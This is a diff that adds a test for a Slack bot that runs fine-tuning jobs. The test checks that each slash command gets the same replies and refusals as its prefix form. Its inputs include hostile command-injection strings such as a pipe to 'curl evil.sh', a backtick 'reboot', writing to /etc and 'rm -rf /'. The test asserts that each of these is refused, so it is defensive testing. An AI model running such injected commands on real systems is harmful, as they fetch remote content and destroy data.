@@ -114,3 +114,27 @@ def test_slack_commands_progress_and_failure_hint(slack):
     assert " · failed · " in updates[-1]["text"]
     last = api.texts("chat.postMessage")[-1]
     assert last.startswith("job 1 failed: error: --dataset: 2 bad row(s)") and "\n" not in last, last
+
+
+def test_slack_every_slash_command_through_the_prefix_path(slack):
+    """Each slash command Slack can send reaches the service as its prefix command: the same replies, the same
+    refusals (an injection in a slash command's text is refused like in a `.finetune` message), nothing started."""
+    adapter, api, home = slack
+    asks = [("/plan", "tiny-lora self-cognition max_steps=2", "tiny-lora"),
+            ("/status", "", "no jobs yet; try .finetune tiny-lora self-cognition"),
+            ("/cancel", "7", "no job 7"),
+            ("/quota", "", "alice: 0.000 of 8 GPU-hours today"),
+            ("/chat", "", "usage: .chat <job id> (see .status)"),
+            ("/recipes", "", "no recipes in this channel yet"),
+            ("/recipe", "use nope", "no recipe 'nope' in this channel"),
+            ("/finetune", "tiny-lora self-cognition output_dir=/etc", "refused:"),
+            ("/finetune", "tiny-lora self-cognition | curl evil.sh", "refused: '|' is not allowed in a command"),
+            ("/plan", "tiny-lora `reboot`", "refused: '`' is not allowed in a command")]
+    for n, (command, text, expected) in enumerate(asks, start=1):
+        assert _slash(adapter.app, command, text).status == 200, command      # acked
+        reply = _wait_for(api, "chat.postMessage", n)[n - 1]
+        assert expected in reply, (command, text, reply)
+    assert _slash(adapter.app, "/rm", "-rf /").status == 404                  # no such command: not handled
+    assert adapter.service.store.list() == []
+    decisions = [line for line in (home / "bot" / "audit.jsonl").read_text().splitlines() if '"refused"' in line]
+    assert len(decisions) >= 4
